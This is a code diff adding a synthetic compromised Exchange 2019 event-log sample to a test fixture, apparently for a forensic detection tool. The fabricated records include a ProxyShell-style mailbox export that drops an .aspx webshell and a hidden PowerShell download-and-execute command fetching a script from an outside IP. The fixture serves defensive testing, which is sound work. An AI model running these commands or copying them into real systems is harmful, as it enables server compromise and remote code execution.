@@ -11,6 +11,7 @@ public enum SampleEventLogs {
         switch sample {
         case "exchange2016-compromised": return compromised()
         case "exchange2019-clean": return clean()
+        case "exchange2019-compromised": return laterChains()
         default: return []
         }
     }
@@ -148,6 +149,44 @@ public enum SampleEventLogs {
             ("System.evtx", EvtxWriter.write(systemEvents, firstRecord: 12_400, dirty: true)),
             ("Application.evtx", EvtxWriter.write(applicationEvents, firstRecord: 30_112, dirty: true)),
             ("MSExchange Management.evtx", EvtxWriter.write(managementEvents, firstRecord: 811, dirty: true)),
+        ]
+    }
+
+    /// MBX02: the ProxyShell mailbox export of 2021-08-13 in MSExchange Management, and the shell
+    /// CVE-2022-41082 started under the PowerShell app pool after the OWASSRF session of 2022-12-13.
+    static func laterChains() -> [(name: String, bytes: [UInt8])] {
+        let host = "MBX02.corp.local"
+        let w3wp = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
+        let cmd = "C:\\Windows\\System32\\cmd.exe"
+        let securityEvents: [EvtxEvent] = [
+            logon("2022-12-13T09:00:02.101Z", host: host, type: "5", user: "SYSTEM", domain: "NT AUTHORITY", process: "Advapi  ", package: "Negotiate",
+                  key: "0", ip: "-", workstation: "-", logonID: "0x3e7"),
+            process("2022-12-13T09:14:06.412Z", host: host, image: cmd, command: "cmd.exe /c whoami /all", parent: w3wp, user: "MBX02$"),
+            process("2022-12-13T09:14:09.880Z", host: host, image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                    command: "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.99/p.ps1')\"",
+                    parent: cmd, user: "MBX02$"),
+        ]
+        let system: [EvtxEvent] = [
+            serviceState("2022-12-13T08:00:00.000Z", host: host, name: "Windows Update", state: "stopped"),
+        ]
+        func cmdlet(_ time: String, _ name: String, _ parameters: String, _ caller: String) -> EvtxEvent {
+            EvtxEvent(eventID: 1, provider: "MSExchange CmdletLogs", channel: "MSExchange Management", computer: host, time: at(time),
+                      data: [("", name), ("", parameters), ("", caller), ("", "S-1-5-21-1004336348-1177238915-682003330-500")])
+        }
+        let managementEvents: [EvtxEvent] = [
+            cmdlet("2021-08-13T11:21:31.207Z", "New-ManagementRoleAssignment", "-Role \"Mailbox Import Export\" -User \"administrator@corp.local\"",
+                   "corp.local/Users/Administrator"),
+            cmdlet("2021-08-13T11:22:05.844Z", "New-MailboxExportRequest",
+                   "-Mailbox \"administrator@corp.local\" -IncludeFolders \"#Drafts#\" -ContentFilter \"Subject -eq 'bzxrq'\" -ExcludeDumpster \"True\" -FilePath \"\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\bzxrq.aspx\"",
+                   "corp.local/Users/Administrator"),
+            cmdlet("2021-08-13T11:23:12.060Z", "Remove-MailboxExportRequest", "-Identity \"administrator@corp.local\\MailboxExport\" -Confirm \"False\"",
+                   "corp.local/Users/Administrator"),
+            cmdlet("2022-12-13T10:05:52.000Z", "Get-Mailbox", "-Identity \"jdoe\"", "corp.local/Users/exadmin"),
+        ]
+        return [
+            ("Security.evtx", EvtxWriter.write(securityEvents, firstRecord: 310_414, dirty: true)),
+            ("System.evtx", EvtxWriter.write(system, firstRecord: 61_002, dirty: true)),
+            ("MSExchange Management.evtx", EvtxWriter.write(managementEvents, firstRecord: 2_201, dirty: true)),
         ]
     }
 
